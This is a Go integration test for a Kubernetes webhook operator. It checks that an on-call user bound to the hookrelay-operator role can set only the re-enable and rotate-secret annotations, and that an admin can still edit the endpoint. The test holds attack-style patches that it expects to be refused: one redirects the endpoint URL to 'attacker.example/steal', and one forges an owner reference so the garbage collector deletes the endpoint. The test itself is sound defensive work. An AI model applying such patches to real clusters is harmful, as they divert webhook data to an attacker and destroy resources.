package controllers

import (
	"context"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	"sigs.k8s.io/controller-runtime/pkg/client"

	hookrelayv1alpha1 "github.com/hookrelay/hookrelay/api/v1alpha1"
	"github.com/hookrelay/hookrelay/internal/testenv"
)

// TestOperatorRoleChangesOnlyActionAnnotations: a user bound to
// hookrelay-operator can ask for a re-enable or a rotation, but cannot change
// an endpoint's spec; an admin still can.
func TestOperatorRoleChangesOnlyActionAnnotations(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	rbac := filepath.Join(testenv.RepoRoot(), "config", "rbac")
	for _, file := range []string{"api_roles.yaml", "endpoint_annotations_policy.yaml"} {
		if _, stderr, err := env.Kubectl(ctx, "", "apply", "-f", filepath.Join(rbac, file)); err != nil {
			t.Fatalf("applying %s: %v\n%s", file, err, stderr)
		}
	}
	namespace := env.Namespace(t)
	if _, stderr, err := env.Kubectl(ctx, "", "create", "rolebinding", "operator", "-n", namespace,
		"--clusterrole=hookrelay-operator", "--user=on-call"); err != nil {
		t.Fatalf("binding hookrelay-operator: %v\n%s", err, stderr)
	}
	onCall := env.UserKubeconfig(t, "on-call")
	asOnCall := func(args ...string) (string, error) {
		// The admin kubeconfig comes first; the later --kubeconfig wins.
		stdout, stderr, err := env.Kubectl(ctx, "", append([]string{"--kubeconfig", onCall, "-n", namespace}, args...)...)
		return stdout + stderr, err
	}
	g.Expect(env.Client.Create(ctx, newEndpoint(namespace, "palm"))).To(Succeed())
	g.Expect(env.Client.Create(ctx, newSubscription(namespace, "any", "palm", "*"))).To(Succeed())

	// The API server takes a moment to load a new policy: wait, without
	// changing anything, until it applies.
	stealURL := []string{"patch", "whep", "palm", "--type=merge", "-p", `{"spec":{"url":"https://attacker.example/steal"}}`}
	g.Eventually(func() string {
		out, _ := asOnCall(append(stealURL, "--dry-run=server")...)
		return out
	}).WithTimeout(60 * time.Second).WithPolling(250 * time.Millisecond).Should(ContainSubstring("hookrelay-endpoint-annotations"))

	out, err := asOnCall(stealURL...)
	g.Expect(err).To(HaveOccurred(), "spec.url patch accepted:\n%s", out)
	g.Expect(out).To(ContainSubstring("may change only the annotations hookrelay.dev/reenable-requested-at and hookrelay.dev/rotate-secret"))

	if out, err := asOnCall("annotate", "whep", "palm", hookrelayv1alpha1.AnnotationReenableRequestedAt+"=2026-11-25T10:00:00Z"); err != nil {
		t.Fatalf("re-enable as hookrelay-operator: %v\n%s", err, out)
	}
	if out, err := asOnCall("annotate", "--overwrite", "whep", "palm", hookrelayv1alpha1.AnnotationRotateSecret+"=2026-11-25T10:00:00Z"); err != nil {
		t.Fatalf("rotate as hookrelay-operator: %v\n%s", err, out)
	}
	for _, refused := range [][]string{
		{"patch", "whep", "palm", "--type=merge", "-p", `{"spec":{"paused":true}}`},
		{"annotate", "whep", "palm", "example.com/other=1"},
		{"label", "whep", "palm", "team=other"},
		// A made-up owner would have the garbage collector delete the endpoint.
		{"patch", "whep", "palm", "--type=merge", "-p",
			`{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"gone","uid":"00000000-0000-0000-0000-000000000001"}]}}`},
		{"patch", "whep", "palm", "--type=merge", "-p", `{"metadata":{"finalizers":["example.com/hold"]}}`},
	} {
		out, err := asOnCall(refused...)
		g.Expect(err).To(HaveOccurred(), "%v was accepted:\n%s", refused, out)
		g.Expect(out).To(ContainSubstring("hookrelay-endpoint-annotations"), "%v", refused)
	}
	// Still forbidden by RBAC: subscriptions.
	out, err = asOnCall("patch", "whsub", "any", "--type=merge", "-p", `{"spec":{"filter":"true"}}`)
	g.Expect(err).To(HaveOccurred())
	g.Expect(out).To(ContainSubstring("forbidden"))

	endpoint := newEndpoint(namespace, "palm")
	g.Expect(env.Client.Get(ctx, client.ObjectKeyFromObject(endpoint), endpoint)).To(Succeed())
	g.Expect(endpoint.Spec.URL).To(Equal("https://receiver.example/palm"))
	g.Expect(endpoint.Spec.Paused).To(BeFalse())
	g.Expect(endpoint.OwnerReferences).To(BeEmpty())
	g.Expect(endpoint.Finalizers).To(BeEmpty())

	// The admin still can.
	if _, stderr, err := env.Kubectl(ctx, "", "-n", namespace, "patch", "whep", "palm", "--type=merge",
		"-p", fmt.Sprintf(`{"spec":{"url":%q}}`, "https://receiver.example/moved")); err != nil {
		t.Fatalf("admin patch of spec.url: %v\n%s", err, stderr)
	}
	g.Expect(env.Client.Get(ctx, client.ObjectKeyFromObject(endpoint), endpoint)).To(Succeed())
	g.Expect(strings.HasSuffix(endpoint.Spec.URL, "/moved")).To(BeTrue())
}
